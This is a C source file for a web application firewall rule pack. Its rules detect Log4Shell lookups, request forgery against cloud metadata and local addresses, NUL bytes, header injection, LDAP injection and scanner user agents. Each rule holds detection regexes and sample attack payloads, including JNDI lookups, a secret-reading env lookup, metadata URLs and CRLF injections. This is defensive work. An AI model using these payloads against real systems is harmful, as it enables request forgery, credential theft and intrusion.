/* Requests made to be misread, forged or spied out. */
#include <stddef.h>

#include "rules/packs/pack.h"

#define INPUT "args, arg_names, cookies"
#define DECODE "url_decode, lowercase"

const struct pack_rule pack_protocol[] = {
    {
        .name = "log4shell",
        .message = "Log4j lookup (CVE-2021-44228)",
        .in = INPUT ", path, headers, body",
        .transform = "url_decode, html_decode, js_decode, lowercase",
        .score = SCORE_CRITICAL,
        .match = { "\\$\\{\\s*jndi\\s*:", "\\$\\{\\s*(?:lower|upper)\\s*:\\s*.",
                   "\\$\\{[^}]*:-[^}]{0,4}\\}", "\\$\\{[^}]*\\$\\{[^}]*:",
                   "\\$\\{\\s*(?:env|sys|java|ctx|main|docker|k8s|spring|bundle|marker|log4j)"
                   "\\s*:"
                   "[^}]+\\}" },
        .attacks = { "${jndi:ldap://e/a}", "${${lower:j}ndi:ldap://e}", "${${::-j}${::-n}di:x}",
                     "%24%7Bjndi:ldap://e%7D", "${jndi:${lower:l}dap://e}",
                     "${env:AWS_SECRET}" },
        .harmless = { "${name}", "jndi", "$5 {a}", "{a: ${b}}", "cost ${amount} today" },
    },
    {
        .name = "ssrf-metadata",
        .message = "Request forgery: a cloud's metadata service",
        .in = INPUT ", body, referer",
        .transform = DECODE,
        .score = SCORE_CRITICAL,
        .match = { "\\b169\\.254\\.169\\.254\\b|\\b169\\.254\\.170\\.2\\b",
                   "\\bmetadata\\.google\\.internal\\b", "\\b100\\.100\\.100\\.200\\b",
                   "\\[?fd00:ec2::254\\b",
                   "://"
                   "(?:0x?a9\\.?(?:0x)?fe\\.?(?:0x)?a9\\.?(?:0x)?fe|2852039166|0251\\.0376\\."
                   "0251\\."
                   "0376|0xa9fea9fe)\\b",
                   "\\bcomputemetadata/v1|/latest/(?:meta-data|user-data|dynamic)\\b",
                   "\\b169\\.254\\.169\\.254\\.(?:nip|xip|sslip)\\." },
        .attacks = { "http://169.254.169.254/latest/meta-data/",
                     "http://metadata.google.internal/", "http://2852039166/",
                     "http://0xa9fea9fe/", "http://[fd00:ec2::254]/",
                     "http://100.100.100.200/" },
        .harmless = { "169.254.1.1", "metadata", "http://example.com/latest/", "100.100",
                      "google internal" },
    },
    {
        .name = "ssrf-local",
        .message = "Request forgery: an address of the server itself",
        .in = "args, body",
        .transform = DECODE,
        .score = SCORE_WARNING,
        .match = { "\\b(?:https?|ftp)://(?:[^\\s/"
                   "@]{0,60}@)?(?:localhost|127\\.\\d|0\\.0\\.0\\.0|"
                   "\\[::1?\\]|\\[::ffff:|0x7f|2130706433|0177\\.|localtest\\.me|"
                   "[\\d.]{7,15}\\.(?:nip|sslip|xip)\\.io)" },
        .attacks = { "http://127.0.0.1:8080/admin", "http://localhost/", "http://[::1]/",
                     "http://2130706433/", "http://a@localhost/" },
        .harmless = { "https://example.com/?a=localhost", "localhost", "127.0.0.1",
                      "http://localization.example/" },
    },
    {
        .name = "null-byte",
        .message = "A NUL byte in an argument",
        .in = INPUT ", path",
        .transform = "url_decode",
        .score = SCORE_CRITICAL,
        .match = { "\\x00" },
        .attacks = { "x%00.jpg", "%00", "%2500", "a%u0000b" },
        .harmless = { "0", "\\0", "100%", "x%0" },
    },
    {
        .name = "header-injection",
        .message = "Header or request injection: a line break and a field",
        .in = INPUT,
        .transform = DECODE,
        .score = SCORE_CRITICAL,
        .match = { "[\\r\\n]\\s{0,4}(?:set-cookie|location|content-(?:type|length|disposition|"
                   "encoding)|"
                   "transfer-encoding|x-(?:forwarded|xss|frame)[\\w-]*|access-control-["
                   "\\w-]{1,30}|"
                   "refresh|host|connection|bcc|cc|mime-version)\\s*:",
                   "[\\r\\n]\\s{0,4}http/[\\d.]{1,3}\\s+\\d{3}",
                   "[\\r\\n]\\s{0,4}(?:get|post|put|delete|head|options|patch|trace|connect)"
                   "\\s+\\S+"
                   "\\s+http/\\d",
                   "\\xe5\\x98\\x8a|\\xe5\\x98\\x8d" },
        .attacks = { "x%0d%0aSet-Cookie:%20a=b", "x%0aLocation: //e",
                     "a%0d%0a%0d%0aHTTP/1.1 200 OK", "x%0d%0aGET /admin HTTP/1.1",
                     "%E5%98%8A%E5%98%8DSet-Cookie:x", "x%250d%250aHost: e" },
        .harmless = { "line one%0aline two", "location: Berlin", "a%0d%0ab", "x%0aget it now",
                      "notes:%0ahosting: yes" },
    },
    {
        .name = "ldap-filter",
        .message = "LDAP injection: a filter is opened or closed",
        .in = "args, body",
        .transform = DECODE,
        .score = SCORE_CRITICAL,
        .match = { "\\*\\s*\\)\\s*\\(\\s*[|&!(\\w]",
                   "\\)\\s*\\(\\s*[|&!]\\s*\\(\\s*\\w+\\s*[~<>]?=",
                   "\\(\\s*[|&!]\\s*\\(\\s*(?:objectclass|cn|uid|sn|mail|userpassword|"
                   "samaccountname)\\s*[~<>]?=",
                   "\\)\\s*\\(\\s*(?:objectclass|uid|cn|userpassword)\\s*=\\s*[*\\w]" },
        .attacks = { "*)(uid=*", "admin)(|(password=*",
                     "*)(objectClass=*))(|(x=", "x)(userPassword=*" },
        .harmless = { "(a) (b)", "f(x) * (y)", "(note *) see", "a * (b + c)", "cn=admin" },
    },
    {
        .name = "scanner",
        .message = "User agent of a vulnerability scanner",
        .in = "user_agent",
        .transform = "lowercase",
        .score = SCORE_CRITICAL,
        .match = { "\\b(?:sqlmap|nikto|nessus|openvas|acunetix|netsparker|invicti|w3af|"
                   "dirbuster|"
                   "gobuster|wpscan|masscan|zgrab|nuclei|havij|arachni|jorgee|whatweb|wfuzz|"
                   "ffuf|"
                   "feroxbuster|skipfish|commix|xsser|joomscan|webinspect|appscan|sqlninja|"
                   "pangolin|webshag|fimap|metis|dirsearch|grendel-scan|zmeu|morfeus|"
                   "muieblackcat|absinthe|bsqlbf|brutus|cgichk|whisker|paros|nmap|"
                   "l9explore|libredtail|interactsh)\\b" },
        .attacks = { "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)",
                     "Nuclei - Open-source project", "gobuster/3.1.0",
                     "Mozilla/5.0 zgrab/0.x" },
        .harmless = { "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
                      "curl/7.88.1", "python-requests/2.28.1", "Googlebot/2.1",
                      "Go-http-client/1.1" },
    },
    { .name = NULL },
};
